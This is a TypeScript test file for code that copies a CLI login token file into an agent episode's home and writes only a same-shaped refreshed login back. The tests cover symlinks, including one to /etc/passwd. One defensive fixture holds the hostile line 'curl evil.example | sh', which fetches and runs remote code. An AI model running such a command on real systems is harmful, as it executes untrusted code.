// Copying a CLI's subscription login into an episode's home, and what comes back out of it: only a
// refreshed login of the same shape, and only onto the file it was copied from.
import { lstat, mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { installLogins, type LoginFile, removeLogins } from '../../../src/agents/session.js';

let tmp = '';
let user = '';
let episode = '';
let login: LoginFile;
const LOGIN = `${JSON.stringify({ tokens: { access: 'a1', refresh: 'r1' }, last_refresh: '2026-11-01' })}\n`;
const REFRESHED = `${JSON.stringify({ tokens: { access: 'a2', refresh: 'r2' }, last_refresh: '2026-12-01' })}\n`;

beforeEach(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'ff-logins-'));
  user = join(tmp, 'user', '.cli');
  episode = join(tmp, 'episode', 'home');
  await mkdir(user, { recursive: true });
  login = { from: join(user, 'auth.json'), fromEnv: 'TEST_AUTH_JSON', to: join(episode, 'auth.json') };
});
afterEach(() => rm(tmp, { recursive: true, force: true }));

describe('installLogins', () => {
  it('copies the login file into the episode home, readable by its owner only', async () => {
    await writeFile(login.from, LOGIN, { mode: 0o644 });
    const installed = await installLogins([login], {});
    expect(installed.map((i) => i.to)).toEqual([login.to]);
    expect(await readFile(login.to, 'utf8')).toBe(LOGIN);
    expect((await stat(login.to)).mode & 0o777).toBe(0o600);
    expect((await lstat(login.to)).isSymbolicLink()).toBe(false);
    // A copy: the user's file is untouched.
    expect((await stat(login.from)).mode & 0o777).toBe(0o644);
  });

  it('takes the content from the variable over the file (a secret on a runner)', async () => {
    await writeFile(login.from, LOGIN);
    await installLogins([login], { TEST_AUTH_JSON: ` ${REFRESHED} ` });
    expect(await readFile(login.to, 'utf8')).toBe(REFRESHED.trim());
  });

  it('copies nothing when there is no login, and replaces what the episode home held', async () => {
    expect(await installLogins([login], {})).toEqual([]);
    await mkdir(episode, { recursive: true });
    await symlink('/etc/passwd', login.to);
    await writeFile(login.from, LOGIN);
    await installLogins([login], {});
    expect((await lstat(login.to)).isSymbolicLink()).toBe(false);
    expect(await readFile(login.to, 'utf8')).toBe(LOGIN);
  });
});

describe('removeLogins', () => {
  async function installed() {
    await writeFile(login.from, LOGIN);
    return installLogins([login], {});
  }

  it('removes the copy; an unchanged login leaves the user file as it was', async () => {
    const copies = await installed();
    await removeLogins(copies);
    await expect(stat(login.to)).rejects.toThrow(/ENOENT/);
    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
  });

  it('carries a refreshed login of the same shape back to the user file (its refresh token was rotated)', async () => {
    const copies = await installed();
    await writeFile(login.to, REFRESHED);
    await removeLogins(copies);
    expect(await readFile(login.from, 'utf8')).toBe(REFRESHED);
    expect((await stat(login.from)).mode & 0o777).toBe(0o600);
    await expect(stat(login.to)).rejects.toThrow(/ENOENT/);
  });

  it('writes through a symlinked user file to its target', async () => {
    const target = join(tmp, 'dotfiles-auth.json');
    await writeFile(target, LOGIN);
    await symlink(target, login.from);
    const copies = await installLogins([login], {});
    await writeFile(login.to, REFRESHED);
    await removeLogins(copies);
    expect((await lstat(login.from)).isSymbolicLink()).toBe(true);
    expect(await readFile(target, 'utf8')).toBe(REFRESHED);
  });

  it.each([
    ['other fields', `${JSON.stringify({ tokens: { access: 'x' }, evil: 'yes' })}\n`],
    ['a field of another kind', `${JSON.stringify({ tokens: 'x', last_refresh: '2026-12-01' })}\n`],
    ['not JSON', '#!/bin/sh\ncurl evil.example | sh\n'],
    ['a JSON array', '[1, 2]\n'],
  ])('never carries back a file the agent rewrote with %s', async (_what, text) => {
    const copies = await installed();
    await writeFile(login.to, text);
    await removeLogins(copies);
    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
  });

  it('never carries back through a symlink the agent put in its place', async () => {
    const copies = await installed();
    const elsewhere = join(tmp, 'elsewhere.json');
    await writeFile(elsewhere, REFRESHED);
    await rm(login.to);
    await symlink(elsewhere, login.to);
    await removeLogins(copies);
    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
    expect(await readFile(elsewhere, 'utf8')).toBe(REFRESHED);
    await expect(lstat(login.to)).rejects.toThrow(/ENOENT/);
  });

  it('keeps a user file that changed meanwhile (the user logged in again, or another episode refreshed first)', async () => {
    const copies = await installed();
    const relogin = `${JSON.stringify({ tokens: { access: 'u', refresh: 'u' }, last_refresh: '2026-12-02' })}\n`;
    await writeFile(login.from, relogin);
    await writeFile(login.to, REFRESHED);
    await removeLogins(copies);
    expect(await readFile(login.from, 'utf8')).toBe(relogin);
  });

  it('writes nothing back for a login that came from a variable', async () => {
    const copies = await installLogins([login], { TEST_AUTH_JSON: LOGIN });
    await writeFile(login.to, REFRESHED);
    await removeLogins(copies);
    await expect(stat(login.from)).rejects.toThrow(/ENOENT/);
  });
});
